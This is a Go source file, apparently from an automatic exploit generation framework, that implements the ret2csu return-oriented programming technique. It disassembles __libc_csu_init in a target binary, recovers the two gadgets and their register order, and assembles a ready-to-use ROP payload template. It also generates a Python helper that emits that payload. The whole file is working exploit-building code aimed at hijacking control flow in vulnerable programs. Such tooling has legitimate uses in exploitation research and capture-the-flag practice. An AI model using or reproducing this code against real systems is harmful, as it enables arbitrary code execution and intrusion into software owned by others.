package technique

import (
	"fmt"
	"strconv"
	"strings"

	"go.uber.org/zap"
	"golang.org/x/arch/x86/x86asm"

	"github.com/LJP-TW/CRAXplusplus/internal/disasm"
	"github.com/LJP-TW/CRAXplusplus/internal/expr"
	"github.com/LJP-TW/CRAXplusplus/internal/log"
)

// Script symbols exported by ret2csu.
const (
	csuInitName       = "__libc_csu_init"
	csuGadget1Name    = "__libc_csu_init_gadget1"
	csuGadget2Name    = "__libc_csu_init_gadget2"
	csuCallTargetName = "__libc_csu_init_call_target"
)

const movInsnLen = 3

// Ret2csu performs arbitrary function calls through the two universal
// gadgets at the end of __libc_csu_init. Gadget one pops rbx, rbp and
// r12-r15; gadget two loads the three argument registers from them and does
// an indirect call through [r12 + rbx*8]. With rbx = 0 and rbp = 1 the loop
// exits after one iteration and control falls through to a controlled
// return address.
type Ret2csu struct {
	env *Env

	csuInit    uint64
	gadget1    uint64
	gadget2    uint64
	callTarget uint64

	// gadget1Regs is the register order of the seven stack slots gadget
	// one consumes, with the add rsp, 8 slot listed first as "rsp".
	gadget1Regs []string

	// gadget2Regs maps each argument register gadget two writes to the
	// register it reads from.
	gadget2Regs map[string]string
	callReg1    string
	callReg2    string

	template expr.RopSubchain
	auxFunc  string

	retAddr expr.Expr
	arg1    expr.Expr
	arg2    expr.Expr
	arg3    expr.Expr
}

// NewRet2csu parses __libc_csu_init in the target, locates a call-target
// pointer, and prebuilds the payload template.
func NewRet2csu(env *Env) (*Ret2csu, error) {
	t := &Ret2csu{
		env:         env,
		gadget2Regs: make(map[string]string),
	}
	if err := t.parseLibcCsuInit(); err != nil {
		return nil, err
	}
	t.searchGadget2CallTarget("_fini")
	t.registerSymbols()
	if err := t.buildTemplate(); err != nil {
		return nil, err
	}
	t.buildAuxiliaryFunction()
	return t, nil
}

func (t *Ret2csu) Name() string { return "ret2csu" }

func (t *Ret2csu) CheckRequirements() bool {
	_, ok := t.env.ELF.Function(csuInitName)
	return ok
}

// SetCallSpec configures the call this technique's own subchain performs.
// Without a call spec, RopSubchains returns nothing and the technique only
// serves other techniques through RopSubchainWithArgs.
func (t *Ret2csu) SetCallSpec(retAddr, arg1, arg2, arg3 expr.Expr) {
	t.retAddr = retAddr
	t.arg1 = arg1
	t.arg2 = arg2
	t.arg3 = arg3
}

func (t *Ret2csu) RopSubchains() ([]expr.RopSubchain, error) {
	if t.retAddr == nil {
		return nil, nil
	}
	rop, err := t.RopSubchainWithArgs(t.retAddr, t.arg1, t.arg2, t.arg3)
	if err != nil {
		return nil, err
	}
	// Junk for the saved RBP slot below the hijacked return address.
	chain := append(expr.RopSubchain{expr.NewConstant(0x4141414141414141)}, rop...)
	return []expr.RopSubchain{chain}, nil
}

func (t *Ret2csu) ExtraRopSubchain() expr.RopSubchain { return nil }

func (t *Ret2csu) AuxiliaryFunctions() string { return t.auxFunc }

// RopSubchainWithArgs instantiates the template as a call to whatever
// function pointer lives at the registered call target, returning to
// retAddr with the three argument registers set.
func (t *Ret2csu) RopSubchainWithArgs(retAddr, arg1, arg2, arg3 expr.Expr) (expr.RopSubchain, error) {
	rop := make(expr.RopSubchain, 0, len(t.template)+2)

	for _, e := range t.template {
		phe, ok := e.(*expr.PlaceholderExpr)
		if !ok {
			rop = append(rop, e)
			continue
		}
		switch {
		case phe.HasTag("arg1"):
			rop = append(rop, arg1)
		case phe.HasTag("arg2"):
			rop = append(rop, arg2)
		case phe.HasTag("arg3"):
			rop = append(rop, arg3)
		case phe.HasTag("retAddr"):
			rop = append(rop, retAddr)
		default:
			return nil, fmt.Errorf("unhandled placeholder %q", phe.Tag())
		}
	}

	// Gadget two only sets EDI, so a wide first argument needs an extra
	// pop rdi after the csu call returns.
	if evalU64(arg1) >= 1<<32 {
		addr, err := t.env.ELF.GadgetStrict("pop rdi ; ret")
		if err != nil {
			return nil, fmt.Errorf("first argument exceeds 32 bits and %w", err)
		}
		rop[len(rop)-1] = expr.NewConstant(t.env.ELF.Rebase(addr))
		rop = append(rop, arg1, retAddr)
	}

	return rop, nil
}

// parseLibcCsuInit disassembles __libc_csu_init and recovers the two gadget
// offsets plus the register orders, which differ between glibc builds.
func (t *Ret2csu) parseLibcCsuInit() error {
	fn, ok := t.env.ELF.Function(csuInitName)
	if !ok {
		return fmt.Errorf("%s not found in %s", csuInitName, t.env.ELF.Path)
	}
	t.csuInit = fn.Address

	code, err := t.env.ELF.ReadAt(fn.Address, int(fn.Size))
	if err != nil {
		return fmt.Errorf("read %s: %w", csuInitName, err)
	}
	insns := disasm.Decode(code, fn.Address)

	if err := t.parseGadget1(insns); err != nil {
		return err
	}
	return t.parseGadget2(insns)
}

// parseGadget1 finds the instruction after the last jne: the add rsp, 8 and
// pop run that forms gadget one. The seven consumed slots are recorded in
// stack order, with the discarded add rsp, 8 slot normalized to "rsp".
func (t *Ret2csu) parseGadget1(insns []disasm.Instruction) error {
	for i := len(insns) - 1; i >= 0; i-- {
		if insns[i].Inst.Op != x86asm.JNE {
			continue
		}
		if i+8 > len(insns) {
			return fmt.Errorf("%s: truncated gadget after jne", csuInitName)
		}
		t.gadget1 = insns[i+1].Address

		regs := make([]string, 0, 7)
		for j := i + 1; j < i+8; j++ {
			reg, ok := firstOperandReg(insns[j])
			if !ok {
				return fmt.Errorf("%s: unexpected instruction %q in gadget one",
					csuInitName, insns[j].String())
			}
			regs = append(regs, reg)
		}
		t.gadget1Regs = append([]string{"rsp"}, removeString(regs, "rsp")...)
		return nil
	}
	return fmt.Errorf("%s: no jne found", csuInitName)
}

// parseGadget2 finds the last call: the three movs before it load the
// argument registers, and the call itself goes through [reg1 + reg2*8].
func (t *Ret2csu) parseGadget2(insns []disasm.Instruction) error {
	for i := len(insns) - 1; i >= 0; i-- {
		if insns[i].Inst.Op != x86asm.CALL {
			continue
		}
		if i < 3 {
			return fmt.Errorf("%s: call without preceding movs", csuInitName)
		}
		t.gadget2 = insns[i].Address - 3*movInsnLen

		for j := i - 3; j < i; j++ {
			if insns[j].Inst.Op != x86asm.MOV {
				return fmt.Errorf("%s: expected mov before call, got %q",
					csuInitName, insns[j].String())
			}
			dst, ok1 := regName(insns[j].Inst.Args[0])
			src, ok2 := regName(insns[j].Inst.Args[1])
			if !ok1 || !ok2 {
				return fmt.Errorf("%s: non-register mov before call", csuInitName)
			}
			t.gadget2Regs[dst] = src
		}

		mem, ok := insns[i].Inst.Args[0].(x86asm.Mem)
		if !ok || mem.Base == 0 || mem.Index == 0 || mem.Scale != 8 {
			return fmt.Errorf("%s: call is not through [reg + reg*8]", csuInitName)
		}
		t.callReg1 = strings.ToLower(mem.Base.String())
		t.callReg2 = strings.ToLower(mem.Index.String())
		return nil
	}
	return fmt.Errorf("%s: no indirect call found", csuInitName)
}

// searchGadget2CallTarget locates a pointer to funcName in mapped memory.
// The dynamic section always holds a pointer to _fini, which makes a
// harmless default call target.
func (t *Ret2csu) searchGadget2CallTarget(funcName string) {
	if t.env.Mem == nil {
		return
	}
	sym, ok := t.env.ELF.Symbol(funcName)
	if !ok {
		log.L.Warn("call target symbol missing", zap.String("symbol", funcName))
		return
	}
	needle := expr.NewConstant(t.env.ELF.Rebase(sym)).Bytes()
	candidates := t.env.Mem.Search(needle)
	if len(candidates) == 0 {
		log.L.Warn("no candidates for csu call target", zap.String("symbol", funcName))
		return
	}
	t.callTarget = candidates[0] - t.env.ELF.Base()
}

func (t *Ret2csu) registerSymbols() {
	t.env.Registry.RegisterSymbol(csuInitName, t.csuInit)
	t.env.Registry.RegisterSymbol(csuGadget1Name, t.gadget1)
	t.env.Registry.RegisterSymbol(csuGadget2Name, t.gadget2)
	t.env.Registry.RegisterSymbol(csuCallTargetName, t.callTarget)
}

// buildTemplate precomputes the 17-slot payload with placeholders where the
// caller's arguments and return address go.
func (t *Ret2csu) buildTemplate() error {
	transform := map[string]string{
		"rsp":                         "4141414141414141",
		"rbx":                         "0",
		"rbp":                         "1",
		wordReg(t.gadget2Regs["edi"]): "arg1",
		wordReg(t.gadget2Regs["rsi"]): "arg2",
		wordReg(t.gadget2Regs["rdx"]): "arg3",
		t.callReg1:                    csuCallTargetName,
	}

	rop := make(expr.RopSubchain, 0, 17)

	g1, err := expr.NewBaseOffset(t.env.Registry, expr.BaseVar, csuGadget1Name)
	if err != nil {
		return err
	}
	rop = append(rop, g1)

	for _, reg := range t.gadget1Regs {
		content, ok := transform[reg]
		if !ok {
			return fmt.Errorf("no mapping for gadget-one register %q", reg)
		}
		switch {
		case content == "arg1" || content == "arg2" || content == "arg3":
			rop = append(rop, expr.NewPlaceholder(content))
		case isHexString(content):
			val, err := strconv.ParseUint(content, 16, 64)
			if err != nil {
				return err
			}
			rop = append(rop, expr.NewConstant(val))
		default:
			e, err := expr.NewBaseOffset(t.env.Registry, expr.BaseVar, content)
			if err != nil {
				return err
			}
			rop = append(rop, e)
		}
	}

	g2, err := expr.NewBaseOffset(t.env.Registry, expr.BaseVar, csuGadget2Name)
	if err != nil {
		return err
	}
	rop = append(rop, g2)

	// Gadget two falls through gadget one again after the call: one
	// discarded slot and six pops, then ret.
	for i := 0; i < 7; i++ {
		rop = append(rop, expr.NewConstant(0x4141414141414141))
	}
	rop = append(rop, expr.NewPlaceholder("retAddr"))

	t.template = rop
	return nil
}

// buildAuxiliaryFunction renders the template as a python helper so the
// generated script can build csu calls at runtime too.
func (t *Ret2csu) buildAuxiliaryFunction() {
	var sb strings.Builder
	sb.WriteString("def uROP(retAddr, arg1, arg2, arg3) -> bytes:\n")
	for i, e := range t.template {
		s := e.String()
		if phe, ok := e.(*expr.PlaceholderExpr); ok {
			s = phe.Tag()
		}
		if i == 0 {
			fmt.Fprintf(&sb, "    payload  = p64(%s)\n", s)
		} else {
			fmt.Fprintf(&sb, "    payload += p64(%s)\n", s)
		}
	}
	sb.WriteString("    return payload")
	t.auxFunc = sb.String()
}

func firstOperandReg(insn disasm.Instruction) (string, bool) {
	switch insn.Inst.Op {
	case x86asm.POP, x86asm.ADD:
		return regName(insn.Inst.Args[0])
	default:
		return "", false
	}
}

func regName(arg x86asm.Arg) (string, bool) {
	reg, ok := arg.(x86asm.Reg)
	if !ok {
		return "", false
	}
	return strings.ToLower(reg.String()), true
}

// wordReg collapses a 32-bit register name to the 64-bit one gadget one
// pops into, e.g. r15d to r15.
func wordReg(reg string) string {
	if len(reg) > 3 {
		return reg[:3]
	}
	return reg
}

func removeString(in []string, drop string) []string {
	out := in[:0]
	for _, s := range in {
		if s != drop {
			out = append(out, s)
		}
	}
	return out
}

func isHexString(s string) bool {
	if s == "" {
		return false
	}
	for _, c := range s {
		if !strings.ContainsRune("0123456789abcdef", c) {
			return false
		}
	}
	return true
}
